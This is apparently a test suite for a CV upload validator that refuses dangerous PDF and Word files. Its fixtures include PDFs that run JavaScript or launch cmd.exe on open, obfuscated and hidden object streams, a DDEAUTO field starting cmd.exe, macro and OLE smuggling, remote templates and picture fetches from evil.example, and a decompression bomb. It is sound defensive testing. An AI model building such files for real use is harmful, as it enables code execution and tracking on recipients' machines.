import { deflateRawSync, deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { docx } from '../testing.ts'
import { cvType } from './cv-type.ts'

/** A PDF whose catalog stands in an object stream, as writers of today make it. */
function pdf(
  objects: string,
  { filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => deflateSync(bytes), trailer = '' } = {},
): Buffer {
  const packed = pack(Buffer.from(objects))
  const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${packed.length} >>\nstream\n`
  return Buffer.concat([
    Buffer.from(head),
    packed,
    Buffer.from(`\nendstream\nendobj\n${trailer}\nstartxref\n0\n%%EOF\n`),
  ])
}
const OPENS = '2 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'

test('a PDF is looked into where its objects are compressed', async () => {
  expect(await cvType(pdf('2 0 << /Type /Catalog /Pages 3 0 R /OpenAction [3 0 R /Fit] >>'))).toBe('pdf')
  expect(await cvType(pdf(OPENS))).toBeNull()
  expect(await cvType(pdf(OPENS.replace('/JavaScript /JS', '/#4aava#53cript /J#53')))).toBeNull()
  expect(await cvType(pdf('2 0 << /S /Launch /F (cmd.exe) >>'))).toBeNull()
  expect(await cvType(pdf(OPENS, { filter: '', pack: bytes => bytes }))).toBeNull()
  // The word that ends a stream may stand in its bytes.
  expect(await cvType(pdf(`(endstream) ${OPENS}`, { pack: bytes => deflateSync(bytes, { level: 0 }) }))).toBeNull()
})

test('a stream of objects is one by its keys, whatever its type says', async () => {
  const hidden = Buffer.from(pdf(OPENS).toString('latin1').replace('/Type /ObjStm', '/Type /Foo'), 'latin1')
  expect(await cvType(hidden)).toBeNull()
})

test.each([
  ['many blanks', ' '.repeat(100)],
  ['a comment', '\n%c\n'],
  ['NULs', '\0\0'],
  ['nothing', ''],
])('a stream of objects behind %s is inspected or refused', async (_, between) => {
  const hidden = pdf(OPENS).toString('latin1').replace('>>\nstream\n', `>>${between}stream\n`)
  expect(await cvType(Buffer.from(hidden.replace('startxref', `%${'x'.repeat(5000)}\nstartxref`), 'latin1'))).toBeNull()
})

const BEHIND_KEYWORD = [' \n', '\t\n', '\f\n', '\0\n', ' ', '', '%c\n', ' %c\r', '  \r\n', 'x\n']
test.each(BEHIND_KEYWORD)('a keyword of streams with %j behind it hides no objects', async behind => {
  const keyword = (bytes: Buffer) =>
    Buffer.from(bytes.toString('latin1').replaceAll('>>\nstream\n', `>>\nstream${behind}`), 'latin1')
  const references = '9 0 obj\n<< /Type /XRef /W [1 4 2] /Length 3 >>\nstream\nabc\nendstream\nendobj\n'
  expect(await cvType(pdf('2 0 << /Type /Catalog >>', { trailer: references }))).toBe('pdf')
  // Of the cross-references and the objects, and of the objects alone.
  expect(await cvType(keyword(pdf(OPENS, { trailer: references })))).toBeNull()
  expect(await cvType(keyword(pdf(OPENS)))).toBeNull()
})

test('the filter of a stream of objects is read as readers read it', async () => {
  const filter = '7 0 obj /FlateDecode endobj\n'
  expect(await cvType(pdf(OPENS, { filter: '/Filter 7 0 R', trailer: filter }))).toBeNull()
  const pack = () => Buffer.concat([deflateSync('2 0 << >>'), Buffer.from(OPENS)])
  expect(await cvType(pdf(OPENS, { filter: '/X /FlateDecode', pack }))).toBeNull()
  expect(await cvType(pdf(OPENS, { filter: '/Filter /FlateDecode /DecodeParms 8 0 R' }))).toBeNull()
  expect(await cvType(pdf('2 0 << >>', { filter: '/Filter /FlateDecode /DecodeParms 8 0 R' }))).toBeNull()
  expect(await cvType(pdf('2 0 << >>', { filter: '/Filter [/FlateDecode] /DecodeParms [null]' }))).toBe('pdf')
})

test.each(['/First +4', '/First 4.0', '/First%c\n4', '/First\0 4', `/First${' '.repeat(17)}4`, '/First 5 0 R'])(
  'a stream with %j is one of objects',
  async first => {
    const hidden = pdf(OPENS).toString('latin1').replace('/Type /ObjStm', '').replace('/First 4', first)
    expect(await cvType(Buffer.from(hidden, 'latin1'))).toBeNull()
  },
)

test('a title may say stream', async () => {
  const titles = ['Gulfstream G550', 'Up stream\nand down stream', 'stream']
  for (const title of titles)
    expect(await cvType(pdf('2 0 << >>', { trailer: `4 0 obj\n<< /Title (${title}) >>\nendobj\n` }))).toBe('pdf')
})

test('a PDF may have an outline, whose first entry is a reference', async () => {
  const outline =
    '4 0 obj\n<< /Type /Outlines /First 5 0 R /Last 6 0 R >>\nendobj\n7 0 obj\n<< /Filter /DCTDecode /Length 3 >>\nstream\nabc\nendstream\nendobj\n'
  expect(await cvType(pdf('2 0 << /Type /Catalog >>', { trailer: outline }))).toBe('pdf')
})

test('a PDF may have links, and none that is followed when it is opened', async () => {
  const link = '<< /Type /Annot /A << /S /URI /URI (https://example.com/) >> >>'
  expect(await cvType(pdf(`2 0 ${link}`))).toBe('pdf')
  const opens = '4 0 obj\n<< /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example/) >> >>\nendobj\n'
  expect(await cvType(pdf('2 0 << >>', { trailer: opens }))).toBeNull()
  const refers =
    '4 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /URI /URI (https://e/) >>\nendobj\n'
  expect(await cvType(pdf('2 0 << >>', { trailer: refers }))).toBeNull()
  // The action is an object of a stream: number 2, at its beginning.
  const packed = '4 0 obj\n<< /Type /Page /AA << /O 2 0 R >> >>\nendobj\n'
  expect(await cvType(pdf('2 0 << /S /URI /URI (https://e/) >>', { trailer: packed }))).toBeNull()
  const shows =
    '4 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /Fit] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 9 0 R >>\nendobj\n'
  expect(await cvType(pdf(`2 0 ${link}`, { trailer: shows }))).toBe('pdf')
})

const SCRIPT = '<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'

test('an object among the bytes of a stream is none that is left out', async () => {
  const hidden = `4 0 obj\n<< /Length 99 >>\nstream\n1 0 obj ${SCRIPT} endobj\nendstream\nendobj\n`
  expect(await cvType(pdf('2 0 << >>', { trailer: hidden }))).toBeNull()
  const commented = hidden.replace('1 0 obj ', '1 0%c\nobj%c\n')
  expect(await cvType(pdf('2 0 << >>', { trailer: commented }))).toBeNull()
})

test('a comment begins no stream', async () => {
  const hidden = `%>>stream\n1 0 obj\n${SCRIPT}\nendobj\n%endstream\n`
  expect(await cvType(pdf('2 0 << >>', { trailer: hidden }))).toBeNull()
  expect(await cvType(pdf('2 0 << >>', { trailer: `%${' '.repeat(5000)}>>stream\n${SCRIPT}\nendstream` }))).toBeNull()
})

test('what of a PDF cannot be looked into is refused', async () => {
  const plain = '2 0 << /Type /Catalog >>'
  expect(await cvType(pdf(plain, { filter: '/Filter [/ASCIIHexDecode /FlateDecode]' }))).toBeNull()
  expect(await cvType(pdf(plain, { trailer: 'trailer << /Encrypt 5 0 R >>' }))).toBeNull()
  expect(await cvType(pdf(plain, { pack: () => Buffer.from('no deflate') }))).toBeNull()
  expect(await cvType(pdf(' '.repeat(30_000_000)))).toBeNull()
})

const TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'
const related = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const word = (parts: Record<string, string | Buffer> = {}, types: string | Buffer = TYPES) =>
  docx({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...parts })
const RELS = 'word/_rels/settings.xml.rels'

test('a Word document may have pictures, fonts, links, and the template of its writer’s own machine', async () => {
  expect(await cvType(word())).toBe('docx')
  expect(await cvType(word({ 'word/media/me.jpeg': 'x', 'word/fonts/f1.odttf': 'x', 'docProps/': '' }))).toBe('docx')
  expect(await cvType(word({ [RELS]: related('hyperlink', 'https://example.com/') }))).toBe('docx')
  expect(await cvType(word({ [RELS]: related('attachedTemplate', 'file:///C:\\Users\\a\\CV.dotx') }))).toBe('docx')
})

const field = (...pieces: string[]) =>
  `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map(piece => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>`
test('a Word document may have page numbers and links as fields', async () => {
  expect(await cvType(word({ 'word/document.xml': field(' PAGE ') }))).toBe('docx')
  expect(await cvType(word({ 'word/document.xml': field('HYPERLINK "https://example.com/added"') }))).toBe('docx')
})

const MACRO = TYPES.replace(
  '</Types>',
  '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)
test.each<[string, Buffer]>([
  ['macros by another name', word({ 'word/macros.png': 'x' }, MACRO)],
  [
    'macros, their type written with numbers',
    word({ 'word/m.png': 'x' }, MACRO.replace('vbaProject', '&#x76;ba&#80;roject')),
  ],
  [
    'a macro document',
    word({}, TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  ['types in another encoding', word({}, Buffer.from(`\uFEFF${MACRO}`, 'utf16le'))],
  ['types with names of their own', word({}, `<!DOCTYPE x [<!ENTITY a "vba">]>${TYPES}`)],
  ['a part that is no text, picture or font', word({ 'word/macros.bin': 'x' })],
  ['an OLE object', word({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['a spreadsheet inside', word({ 'word/embeddings/Sheet1.xlsx': 'x' })],
  ['a program', word({ 'word/media/run.hta': 'x' })],
  ['a shortcut', word({ 'word/media/run.lnk': 'x' })],
  ['a Java archive', word({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' })],
  ['an object by its relationship', word({ [RELS]: related('oleObject', 'media/a.png', 'Internal') })],
  ['a template from elsewhere', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
  ['a template from another machine', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
  ['a template in single quotes', word({ [RELS]: related('attachedTemplate', 'https://e/').replaceAll('"', "'") })],
  ['a field that starts a program', word({ 'word/document.xml': field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })],
  ['such a field in pieces', word({ 'word/document.xml': field(' DD', 'EAUTO cmd ') })],
  ['such a field in short', word({ 'word/footer1.xml': '<w:p><w:fldSimple w:instr="dde cmd"/></w:p>' })],
  ['a field that fetches a picture', word({ 'word/document.xml': field('INCLUDEPICTURE "https://evil.example/"') })],
  ['a picture that is fetched', word({ [RELS]: related('image', 'https://evil.example/seen.png') })],
])('a Word document with %s is refused', async (_, bytes) => {
  expect(await cvType(bytes)).toBeNull()
})

test('a Word document that unpacks to very much is refused', async () => {
  const bomb = Buffer.alloc(20_000_000, 32)
  expect(deflateRawSync(bomb).length).toBeLessThan(30_000)
  expect(await cvType(word({ [RELS]: bomb }))).toBeNull()
})
